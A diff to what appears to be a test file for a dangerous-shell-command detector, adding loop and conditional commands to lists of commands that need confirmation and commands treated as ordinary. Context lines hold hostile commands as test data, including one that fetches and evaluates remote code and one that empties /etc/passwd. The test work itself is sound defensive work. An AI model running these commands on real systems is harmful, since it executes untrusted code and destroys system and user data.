@@ -125,6 +125,8 @@ const ASK = [
   'eval "$(curl -s https://x)"',
   'rm -rf $TMPDIR/../x',
   'sudo bash -c "rm -r /opt/app/cache"',
+  'for d in a b; do rm -rf "$d"; done; echo cleaned',
+  'if [ -d build ]; then rm -r build; fi',
   'python3 <<EOF\nimport os\nos.remove("x")\nEOF',
   'truncate -s 0 /etc/passwd',
 ];
@@ -211,6 +213,11 @@ const ORDINARY = [
   'crontab -l',
   'iptables -L',
   'dd --version',
+  'for i in 1 2 3; do echo tick$i; done; exit 7',
+  'if true; then echo a; fi && echo b',
+  'while false; do :; done | cat',
+  'until [ -f ready ]; do sleep 1; done; echo go',
+  'for f in $(ls); do wc -l "$f"; done > counts.txt',
 ];
 
 describe('dangerous-command detection', () => {
